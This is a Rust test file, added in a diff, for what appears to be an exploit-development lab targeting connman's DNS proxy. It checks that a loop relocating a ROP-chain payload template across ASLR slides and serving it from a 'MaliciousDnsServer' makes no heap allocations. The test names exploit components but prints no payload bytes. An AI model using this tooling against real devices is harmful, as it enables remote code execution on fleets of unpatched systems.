@@ -1,0 +1,122 @@
+//! Counting-allocator proof of the pooled zero-copy claim: after
+//! warm-up, a steady-state fleet iteration's template + packet path —
+//! relocate the payload template, re-emit its labels, answer the
+//! canonical proxy query into a pooled buffer — performs **zero** heap
+//! allocations.
+//!
+//! This file installs a `#[global_allocator]` and therefore holds
+//! exactly one test: a sibling test thread would pollute the counter.
+
+use std::alloc::{GlobalAlloc, Layout, System};
+use std::sync::atomic::{AtomicU64, Ordering};
+
+use connman_lab::dns::{BufPool, Message, Name, Question, RecordType};
+use connman_lab::exploit::{MaliciousDnsServer, PayloadTemplate, RopMemcpyChain, Slides};
+use connman_lab::{Arch, FirmwareKind, Lab, Protections};
+
+/// Counts every allocation-acquiring call; frees are not counted (the
+/// steady-state claim is about acquiring memory, and the pool's whole
+/// point is that nothing is released either).
+struct CountingAllocator;
+
+static ALLOCS: AtomicU64 = AtomicU64::new(0);
+
+unsafe impl GlobalAlloc for CountingAllocator {
+    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
+        ALLOCS.fetch_add(1, Ordering::Relaxed);
+        System.alloc(layout)
+    }
+
+    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
+        ALLOCS.fetch_add(1, Ordering::Relaxed);
+        System.alloc_zeroed(layout)
+    }
+
+    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
+        ALLOCS.fetch_add(1, Ordering::Relaxed);
+        System.realloc(ptr, layout, new_size)
+    }
+
+    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
+        System.dealloc(ptr, layout)
+    }
+}
+
+#[global_allocator]
+static GLOBAL: CountingAllocator = CountingAllocator;
+
+#[test]
+fn steady_state_template_and_packet_path_is_allocation_free() {
+    // Cold setup: recon, template compile, server construction, query
+    // bytes — all allowed to allocate freely.
+    let lab = Lab::new(FirmwareKind::OpenElec, Arch::X86).with_protections(Protections::full());
+    let reference = lab.recon().expect("replica recon");
+    let strategy = RopMemcpyChain::new(Arch::X86);
+    let template = PayloadTemplate::compile(&strategy, &reference).expect("template compiles");
+    assert!(
+        template.has_static_plan(),
+        "zero-alloc label re-emission needs the slide-invariant plan"
+    );
+    let labels = template
+        .instantiate(&Slides::identity())
+        .expect("identity labels");
+    let mut server = MaliciousDnsServer::with_labels(labels, template.name());
+    let query = Message::query(
+        0x5150,
+        Question::new(
+            Name::parse("telemetry.vendor.example").expect("valid"),
+            RecordType::A,
+        ),
+    )
+    .encode()
+    .expect("encodes");
+
+    // Alternating slides prove the relocation itself (not just a no-op
+    // repeat) stays allocation-free on warm buffers.
+    let slide_a = Slides {
+        pie: 0x4000,
+        ..Slides::identity()
+    };
+    let slide_b = Slides {
+        pie: 0x1_2000,
+        ..Slides::identity()
+    };
+
+    let mut pool = BufPool::new();
+    let mut buf = Vec::new();
+    let mut relabeled = Vec::new();
+
+    let iteration = |i: usize,
+                     pool: &mut BufPool,
+                     buf: &mut Vec<u8>,
+                     relabeled: &mut Vec<Vec<u8>>,
+                     server: &mut MaliciousDnsServer| {
+        let slides = if i.is_multiple_of(2) {
+            &slide_a
+        } else {
+            &slide_b
+        };
+        template
+            .relocate_labels(slides, buf, relabeled)
+            .expect("static plan");
+        let mut out = pool.checkout();
+        assert!(server.handle_into(&query, &mut out), "query answered");
+        pool.checkin(out);
+    };
+
+    // Warm-up: first pass sizes every buffer, label vec, and the pool.
+    for i in 0..4 {
+        iteration(i, &mut pool, &mut buf, &mut relabeled, &mut server);
+    }
+
+    let before = ALLOCS.load(Ordering::Relaxed);
+    for i in 0..64 {
+        iteration(i, &mut pool, &mut buf, &mut relabeled, &mut server);
+    }
+    let after = ALLOCS.load(Ordering::Relaxed);
+    assert_eq!(
+        after - before,
+        0,
+        "steady-state iterations must not touch the heap"
+    );
+}
